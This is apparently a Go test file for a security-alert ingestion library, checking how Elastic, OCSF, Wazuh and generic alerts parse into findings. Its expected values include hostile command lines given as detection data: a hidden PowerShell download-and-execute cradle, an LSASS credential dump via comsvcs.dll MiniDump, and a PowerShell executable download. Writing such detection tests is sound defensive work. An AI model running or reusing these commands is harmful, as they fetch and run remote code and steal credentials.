package ingest

import (
	"strings"
	"testing"
	"time"

	"github.com/conductor-sec/conductor/internal/finding"
)

// want is the part of a finding a format test pins down.
type want struct {
	ruleID     string
	title      string
	time       time.Time
	band       finding.Severity
	score      int
	techniques string
	obs        []finding.Observable
	labels     map[string]string
}

func (w want) check(t *testing.T, f finding.Finding) {
	t.Helper()
	if f.RuleID != w.ruleID || f.Title != w.title || !f.Time.Equal(w.time) {
		t.Errorf("finding = %q %q %v, want %q %q %v", f.RuleID, f.Title, f.Time,
			w.ruleID, w.title, w.time)
	}
	if f.Severity != w.band || f.SeverityScore != w.score {
		t.Errorf("severity = %s/%d, want %s/%d", f.Severity, f.SeverityScore, w.band, w.score)
	}
	if got := strings.Join(f.Techniques, ","); got != w.techniques {
		t.Errorf("Techniques = %s, want %s", got, w.techniques)
	}
	for _, o := range w.obs {
		if got, ok := observable(f, o.Kind, o.Value); !ok || got != o {
			t.Errorf("observable %s = %+v, want %+v (all: %v)", o.Key(), got, o, f.Observables)
		}
	}
	for k, v := range w.labels {
		if f.Labels[k] != v {
			t.Errorf("label %s = %q, want %q", k, f.Labels[k], v)
		}
	}
}

func field(kind finding.Kind, value, role string) finding.Observable {
	return finding.Observable{Kind: kind, Value: value, Role: role, Origin: finding.OriginField}
}

func text(kind finding.Kind, value string) finding.Observable {
	return finding.Observable{Kind: kind, Value: value, Origin: finding.OriginText}
}

func TestElastic(t *testing.T) {
	res := parseTestdata(t, "elastic_alerts.json")
	if len(res.Findings) != 3 || res.Skipped != 1 || len(res.Errors) != 0 {
		t.Fatalf("Parse() = %d findings, %d skipped, %v; want 3, 1 (an ECS flow event)",
			len(res.Findings), res.Skipped, res.Errors)
	}

	tests := []struct {
		name string
		want want
	}{
		{"nested kibana alert", want{
			ruleID: "3f7c2a10-5d4e-4b6a-9c8d-1e2f3a4b5c6d", title: "Suspicious Office Child Process",
			time: time.Date(2026, 3, 4, 11, 20, 1, 0, time.UTC), band: "high", score: 73,
			techniques: "T1566,T1566.001",
			obs: []finding.Observable{
				field("host", "WS-0142", "target"),
				field("ip", "fe80::a00:27ff:fe4e:66a1", "target"),
				field("user", "j.doe", "actor"),
				field("process", "powershell.exe -nop -w hidden -c IEX (New-Object "+
					"Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')", "actor"),
			},
			labels: map[string]string{"workflow_status": "open", "rule_tactic": "Initial Access",
				"parent_process_name": "WINWORD.EXE", "event_category": "process"},
		}},
		{"dotted keys", want{
			ruleID: "0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f",
			title:  "Multiple Logon Failures from the Same Source Address",
			time:   time.Date(2026, 3, 4, 12, 0, 0, 0, time.UTC), band: "medium", score: 47,
			techniques: "T1110,T1110.001",
			obs: []finding.Observable{
				field("ip", "203.0.113.9", "src"),
				field("host", "DC-01", "target"),
				field("ip", "10.0.0.10", ""),
			},
		}},
		{"mixed keys, score only", want{
			ruleID: "dns-unusual-1", title: "Unusual DNS Activity",
			time: time.Date(2026, 3, 4, 12, 30, 0, 0, time.UTC), band: "low", score: 21,
			techniques: "T1071.004",
			obs:        []finding.Observable{field("domain", "xk2j9q.example.top", "query")},
		}},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { tt.want.check(t, res.Findings[i]) })
	}

	// The source address in the reason text is the same as source.ip: not repeated.
	for _, o := range res.Findings[1].Observables {
		if o.Value == "203.0.113.9" && o.Origin == finding.OriginText {
			t.Errorf("203.0.113.9 recorded again from text: %v", res.Findings[1].Observables)
		}
	}
}

func TestElasticRiskScoreBands(t *testing.T) {
	tests := []struct {
		score string
		band  finding.Severity
	}{
		{"0", "low"}, {"21", "low"}, {"22", "medium"}, {"47", "medium"}, {"48", "high"},
		{"73", "high"}, {"74", "critical"}, {"99", "critical"},
	}
	for _, tt := range tests {
		t.Run(tt.score, func(t *testing.T) {
			rec := `{"@timestamp":"2026-01-01T00:00:00Z","kibana.alert.rule.name":"r",` +
				`"kibana.alert.risk_score":` + tt.score + `}`
			f, err := ParseRecord(FormatElastic, []byte(rec), Options{})
			if err != nil || f.Severity != tt.band {
				t.Errorf("risk_score %s = %s, %v, want %s", tt.score, f.Severity, err, tt.band)
			}
		})
	}
}

func TestOCSF(t *testing.T) {
	res := parseTestdata(t, "ocsf_findings.json")
	if len(res.Findings) != 2 || res.Skipped != 1 || len(res.Errors) != 0 {
		t.Fatalf("Parse() = %d findings, %d skipped, %v; want 2, 1 (an Authentication event)",
			len(res.Findings), res.Skipped, res.Errors)
	}

	want{
		ruleID: "rule-lsass-01", title: "Credential dumping via LSASS memory access",
		time: time.Date(2026, 3, 4, 12, 30, 0, 123e6, time.UTC), band: "high", score: 75,
		techniques: "T1003,T1003.001",
		obs: []finding.Observable{
			field("host", "srv-app-07", "target"),
			field("ip", "10.50.7.7", "target"),
			field("user", `CORP\svc_deploy`, "actor"),
			field("ip", "10.50.7.99", "src"),
			field("process", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 `+
				`C:\Temp\l.dmp full`, "actor"),
			field("file", `C:\Temp\l.dmp`, ""),
			field("hash", "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae", ""),
		},
		labels: map[string]string{"product": "Example EDR", "finding_uid": "det-7731",
			"tactic": "Credential Access", "confidence": "85"},
	}.check(t, res.Findings[0])
	if res.Findings[0].TimeRaw != "1772627400123" {
		t.Errorf("TimeRaw = %q, want the epoch milliseconds as written", res.Findings[0].TimeRaw)
	}

	want{
		ruleID: "sf-42", title: "S3 bucket allows public read",
		time: time.Date(2026, 3, 4, 13, 30, 0, 0, time.UTC), band: "low", score: 25,
		labels: map[string]string{"resources": "acme-public-assets"},
	}.check(t, res.Findings[1])
}

func TestWazuh(t *testing.T) {
	res := parseTestdata(t, "wazuh_alerts.json")
	if len(res.Findings) != 3 || len(res.Errors) != 0 {
		t.Fatalf("Parse() = %+v, want 3 findings", res)
	}

	tests := []struct {
		name string
		want want
	}{
		{"sshd brute force", want{
			ruleID: "5763",
			title:  "sshd: brute force trying to get access to the system. Authentication failed.",
			time:   time.Date(2026, 3, 5, 3, 14, 15, 926e6, time.UTC), band: "medium", score: 66,
			techniques: "T1110",
			obs: []finding.Observable{
				field("host", "bastion-01", "target"), field("ip", "10.60.0.5", "target"),
				field("ip", "203.0.113.45", "src"), field("user", "oracle", "target"),
			},
			labels: map[string]string{"groups": "syslog,sshd,authentication_failures",
				"level": "10", "decoder": "sshd", "src_port": "40112"},
		}},
		{"file integrity", want{
			ruleID: "550", title: "Integrity checksum changed.",
			time: time.Date(2026, 3, 5, 4, 0, 2, 4e6, time.UTC), band: "medium", score: 46,
			techniques: "T1565.001",
			obs: []finding.Observable{
				field("file", "/etc/passwd", "target"),
				field("hash", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
					"target"),
			},
		}},
		{"windows command line", want{
			ruleID: "92213", title: "Powershell process downloading a file from the internet.",
			time: time.Date(2026, 3, 5, 5, 30, 0, 500e6, time.UTC), band: "high", score: 80,
			techniques: "T1059.001,T1105",
			obs: []finding.Observable{field("process", `powershell.exe -c "Invoke-WebRequest `+
				`-Uri https://198.51.100.7/a.exe?token=[REDACTED:token] -OutFile `+
				`C:\Users\Public\a.exe"`, "actor")},
		}},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { tt.want.check(t, res.Findings[i]) })
	}
}

func TestWazuhLevels(t *testing.T) {
	for level, band := range map[string]finding.Severity{
		"0": "info", "3": "info", "4": "low", "6": "low", "7": "medium", "11": "medium",
		"12": "high", "14": "high", "15": "critical",
	} {
		rec := `{"timestamp":"2026-01-01T00:00:00Z","rule":{"level":` + level +
			`,"description":"d"},"agent":{}}`
		f, err := ParseRecord(FormatWazuh, []byte(rec), Options{})
		if err != nil || f.Severity != band {
			t.Errorf("level %s = %s, %v, want %s", level, f.Severity, err, band)
		}
	}
}

func TestGeneric(t *testing.T) {
	res := parseTestdata(t, "generic.json")
	if len(res.Findings) != 1 {
		t.Fatalf("Parse() = %+v, want one finding", res)
	}
	want{
		ruleID: "travel-1", title: "Impossible travel for m.rossi",
		time: time.Date(2026, 3, 6, 7, 0, 0, 0, time.UTC), band: "high", score: 82,
		techniques: "T1078,T1078.004",
		obs: []finding.Observable{
			field("user", "m.rossi", "actor"),
			field("ip", "203.0.113.80", "src"),
			text("ip", "192.0.2.10"),
			text("url", "https://idp.example.com/audit/77131"),
		},
		labels: map[string]string{"source": "idp-anomaly-script", "tenant": "corp-eu"},
	}.check(t, res.Findings[0])
}

func TestGenericErrors(t *testing.T) {
	tests := []struct {
		name, record, want string
	}{
		{"no title", `{"severity":"low"}`, `missing "title"`},
		{"bad severity", `{"title":"t","severity":"urgent"}`, `severity "urgent"`},
		{"score out of range", `{"title":"t","severity":101}`, `severity "101"`},
		{"bad technique", `{"title":"t","techniques":["Brute force"]}`, `techniques[0]`},
		{"bad kind", `{"title":"t","observables":[{"kind":"mac","value":"x"}]}`,
			`observables[0].kind "mac"`},
		{"bad ip", `{"title":"t","observables":[{"kind":"ip","value":"1.2.3"}]}`,
			`observables[0].value "1.2.3"`},
		{"empty value", `{"title":"t","observables":[{"kind":"host"}]}`,
			`missing "observables[0].value"`},
		{"bad time", `{"title":"t","time":"yesterday"}`, `parsing "time" "yesterday"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseRecord(FormatGeneric, []byte(tt.record), Options{})
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("ParseRecord(%s) error = %v, want one containing %q", tt.record, err,
					tt.want)
			}
		})
	}
}

func TestTextObservablesAreCapped(t *testing.T) {
	var desc strings.Builder
	for i := range 100 {
		desc.WriteString("10.0.0." + strings.Repeat("1", 1+i%2) + " 10.1." +
			string(rune('0'+i%10)) + "." + string(rune('0'+i/10)) + " ")
	}
	rec := `{"title":"t","description":"` + desc.String() + `"}`
	f, err := ParseRecord(FormatGeneric, []byte(rec), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(f.Observables) != maxTextObservables {
		t.Errorf("observables from text = %d, want the cap %d", len(f.Observables),
			maxTextObservables)
	}
}
